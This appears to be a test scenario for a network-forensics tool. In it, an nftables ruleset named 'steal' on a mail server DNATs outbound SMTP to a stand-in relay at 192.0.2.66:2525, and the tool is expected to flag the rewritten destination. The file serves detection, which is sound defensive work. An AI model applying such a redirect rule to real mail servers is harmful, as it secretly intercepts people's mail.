"""The mail server's own nftables send outgoing mail to port 2525 of a stranger: other address, other port, still SMTP."""

from tests.lab.lab import Lab
from tests.lab.sight import lacks, shows
from tests.lab.truth import Case, Expect, faulty

REWRITTEN = Expect(("destination-rewritten",), ("198.51.100.10", "192.0.2.66", "2525"))
PROVEN = Expect(("destination-rewritten",), ("198.51.100.10", "192.0.2.66", "2525"), confidence="proven")
MECHANISM = "DNAT"
CASES = (
    faulty("mta-eth0.pcap", REWRITTEN, also=("banner-mismatch",)),
    Case("log", ("mta-eth0.pcap", "--log", "mail.log"), (PROVEN,)),
)
RULES = """
table ip steal {
  chain output {
    type nat hook output priority -100; policy accept;
    tcp dport 25 ip daddr != 127.0.0.0/8 dnat to 192.0.2.66:2525
  }
}
"""
SEEN = (
    *shows("mta-eth0.pcap", "src 192.0.2.66 and tcp src port 2525 and tcp[13] & 8 != 0"),
    *lacks("mta-eth0.pcap", "host 198.51.100.10"),
)


def play(lab: Lab) -> None:
    lab.resolver().serve()
    lab.odd_server("alt", 2525, replies={"CONNECT": "220 relay.other.example ESMTP\r\n"})
    mta = lab.sender()
    lab.nft("mta", RULES)
    with lab.taps("mta-eth0"):
        lab.submit()
        mta.wait_for("status=sent")
    lab.keep_log(mta)
